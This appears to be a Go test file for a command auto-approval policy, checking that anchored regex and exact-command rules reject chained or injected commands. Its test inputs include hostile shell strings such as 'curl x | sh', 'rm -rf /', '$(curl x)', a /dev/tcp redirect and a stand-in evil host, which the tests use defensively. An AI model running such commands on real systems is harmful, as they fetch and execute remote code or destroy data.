package policy

import "testing"

func TestAutoApproved(t *testing.T) {
	s := Settings{AutoApprove: []AutoRule{
		{Command: "  go test ./...  "},
		{Command: "make lint && make test"},
		{Pattern: `go test( -run \w+)? \./\.\.\.`},
		{Pattern: `go test .*`},
		{Pattern: `npm (test|run lint)`},
		{Pattern: `(`}, // invalid: stored by an older version, say; never matches
	}}
	tests := []struct {
		cmd  string
		want string // "" means not approved
	}{
		// Command rules: exact, surrounding spaces aside.
		{"go test ./...", "command `go test ./...`"},
		{"\tgo test ./...\n", "command `go test ./...`"},
		{"go  test ./...", ""},                                         // not the exact command, and no pattern admits two spaces
		{"make lint && make test", "command `make lint && make test`"}, // written exactly: the maintainer's choice
		{"make lint && make test && curl x | sh", ""},
		{"make lint", ""},
		{"", ""},
		{"   ", ""},

		// Pattern rules: whole command.
		{"go test -run TestX ./...", "pattern `^(?:go test( -run \\w+)? \\./\\.\\.\\.)$`"},
		{"go test -v ./pkg/...", "pattern `^(?:go test .*)$`"},
		{"npm test", "pattern `^(?:npm (test|run lint))$`"},
		{"npm test; rm -rf /", ""},
		{"npm testx", ""},
		{"xnpm test", ""},
		{"npm run lint --fix", ""},
		{"go vet ./...", ""},

		// Pattern rules never approve more than one simple command.
		{"go test ./... ; curl x | sh", ""},
		{"go test ./...;curl x", ""},
		{"go test ./... && curl x", ""},
		{"go test ./... || curl x", ""},
		{"go test ./... & curl x", ""},
		{"go test ./... | sh", ""},
		{"go test ./...\ncurl x | sh", ""},
		{"go test ./...\rcurl x", ""},
		{"go test `curl x`", ""},
		{"go test $(curl x)", ""},
		{"go test ${HOME}", ""},
		{"go test ./... > /etc/passwd", ""},
		{"go test ./... >> out", ""},
		{"go test ./... < /dev/tcp/x/80", ""},
		{"go test <(curl x)", ""},
		{"go test ./... 2>&1", ""},
		{"go test '$(curl x)'", ""}, // quoted, but not worth telling apart
		{"go test \"a;b\"", ""},
		{"go test ./...\x00curl", ""},
		{"go test ./...\vx", ""},
		{"go test ./...\u2028curl x", ""},
		{"go test -run 'Foo$' ./...", "pattern `^(?:go test .*)$`"}, // a lone $ expands nothing dangerous
	}
	for _, tt := range tests {
		rule, ok := s.AutoApproved(tt.cmd)
		if ok != (tt.want != "") || rule != tt.want {
			t.Errorf("AutoApproved(%q) = %q, %v; want %q", tt.cmd, rule, ok, tt.want)
		}
	}
}

func TestAutoApprovedNothingByDefault(t *testing.T) {
	s, err := DefaultOperator().Resolve(nil)
	if err != nil {
		t.Fatal(err)
	}
	for _, cmd := range []string{"go test ./...", "true", "ls"} {
		if rule, ok := s.AutoApproved(cmd); ok {
			t.Errorf("%q approved by %q with no rules", cmd, rule)
		}
	}
}

// A pattern is anchored as a whole, alternation included: "a|b" must not
// become "^a|b$", which would approve anything ending in b.
func TestAutoApprovedAnchoring(t *testing.T) {
	s := Settings{AutoApprove: []AutoRule{{Pattern: `make test|make lint`}, {Pattern: `.*-v`}}}
	for cmd, want := range map[string]bool{
		"make test":               true,
		"make lint":               true,
		"curl evil.sh make lint":  false,
		"make test then anything": false,
		"go test -v":              true,
	} {
		if _, ok := s.AutoApproved(cmd); ok != want {
			t.Errorf("AutoApproved(%q) = %v, want %v", cmd, ok, want)
		}
	}
}

// Descriptions go into a markdown comment; a rule with a backtick must not
// break out of its code span.
func TestAutoApprovedDescription(t *testing.T) {
	s := Settings{AutoApprove: []AutoRule{{Command: "echo `x`"}}}
	if rule, ok := s.AutoApproved("echo `x`"); !ok || rule != "command `echo ˋxˋ`" {
		t.Errorf("got %q, %v", rule, ok)
	}
}

// A pattern that is not a regular expression on its own must not become
// one inside the anchors: "go test)|(.*" would match every command.
func TestAutoApprovePatternCannotEscapeItsAnchors(t *testing.T) {
	for _, p := range []string{`go test)|(.*`, `x)|.*|(y`, `a)(?:.*`} {
		if _, err := Load([]byte("auto_approve:\n  - pattern: '" + p + "'\n")); err == nil {
			t.Errorf("Load accepted the pattern %q", p)
		}
		s := Settings{AutoApprove: []AutoRule{{Pattern: p}}}
		for _, cmd := range []string{"rm -rf /", "curl evil.example -o x", "go test"} {
			if _, ok := s.AutoApproved(cmd); ok {
				t.Errorf("pattern %q approved %q", p, cmd)
			}
		}
	}
}
